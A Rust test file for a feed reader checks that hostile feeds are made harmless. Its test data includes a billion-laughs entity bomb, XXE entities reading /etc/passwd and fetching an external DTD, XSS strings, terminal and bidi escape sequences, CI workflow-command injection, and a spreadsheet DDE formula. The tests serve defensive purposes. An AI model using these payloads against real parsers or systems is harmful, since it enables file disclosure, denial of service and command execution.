//! Feeds that are made to do harm.

use super::*;

#[test]
fn entities_of_a_document_type_are_not_expanded() {
    let laughs = (1..10).fold("<!ENTITY lol0 \"ha\">".to_owned(), |text, level| {
        format!("{text}<!ENTITY lol{level} \"{}\">", format!("&lol{};", level - 1).repeat(10))
    });
    let feed = |types: &str, title: &str| {
        format!(
            "<?xml version=\"1.0\"?><!DOCTYPE rss [{types}]><rss><channel><item><title>{title}</title></item></channel></rss>"
        )
    };
    for (text, expected) in [
        (feed(&laughs, "a &lol9; b"), "a &lol9; b"),
        (feed("<!ENTITY x SYSTEM \"file:///etc/passwd\">", "&x;"), "&x;"),
        (feed("<!ENTITY % p SYSTEM \"https://collect.example/x.dtd\"> %p;", "T"), "T"),
        (feed("<!ENTITY amp \"evil\">", "a &amp;amp; b"), "a & b"),
        (feed("", "caf&eacute; &#233; &#x2014; &lt;b&gt;"), "café é —"),
    ] {
        assert_eq!(entries(&text)[0].title, expected, "{text}");
    }
}

/// A feed within the limit of bytes with as many entries as fit.
fn crowd(item: &str, start: &str, end: &str) -> String {
    let room = MAX_BYTES - start.len() - end.len();
    format!("{start}{}{end}", item.repeat(room / item.len()).trim_end_matches(','))
}

#[test]
fn of_any_number_of_entries_the_newest_are_kept() {
    let json = "{\"version\":\"https://jsonfeed.org/version/1\",\"items\":[";
    let crowds = [
        (crowd("<item/>", "<rss><channel>", "</channel></rss>"), 0),
        (crowd("<item><title>T</title></item>", "<rss><channel>", "</channel></rss>"), 1),
        (crowd("{},", json, "]}"), 0),
        (crowd("{\"title\":\"T\"},", json, "]}"), 1),
        (crowd("<a>", "<rss><channel><item><title>T", ""), usize::MAX),
    ];
    for (text, expected) in crowds {
        match read(&text) {
            Ok(feed) => assert_eq!(feed.entries.len(), expected),
            Err(fault) => assert_eq!((fault, expected), (FeedFault::Malformed, usize::MAX)),
        }
    }
    let numbered: Vec<String> = (0..100_000).map(|index| format!("<item><title>T{index}</title></item>")).collect();
    let feed = read(&format!("<rss><channel>{}</channel></rss>", numbered.concat())).expect("a feed");
    assert_eq!((feed.entries.len(), feed.left_out.beyond_limit), (MAX_ENTRIES, 99_000));
}

#[test]
fn texts_become_plain_lines() {
    for (title, expected) in [
        ("&lt;script&gt;alert(1)&lt;/script&gt;New", "New"),
        ("&lt;img src=x onerror=alert(1)&gt;New", "New"),
        ("a&#27;[31mb&#x202E;c&#x2066;d", "a[31mbcd"),
        ("{{ config }} {% raw %}", "{{ config }} {% raw %}"),
        ("::error file=x::y\n::warning::z", "::error file=x::y ::warning::z"),
        ("=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
        ("a\u{0}b", "ab"),
    ] {
        let text = format!("<rss><channel><item><title>{title}</title></item></channel></rss>");
        assert_eq!(entries(&text)[0].title, expected, "{title}");
    }
}

proptest! {
    #[test]
    fn no_bytes_break_the_reader(bytes in prop::collection::vec(any::<u8>(), 0..200), start in 0..4usize) {
        let start = ["", "<rss><channel><item><title>", "{\"version\":\"https://jsonfeed.org/version/1\",\"items\":[", "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry"][start];
        let bytes = [start.as_bytes(), &bytes].concat();
        let _ = read_feed(&bytes, Some("text/xml; charset=x"), FEED);
    }
}
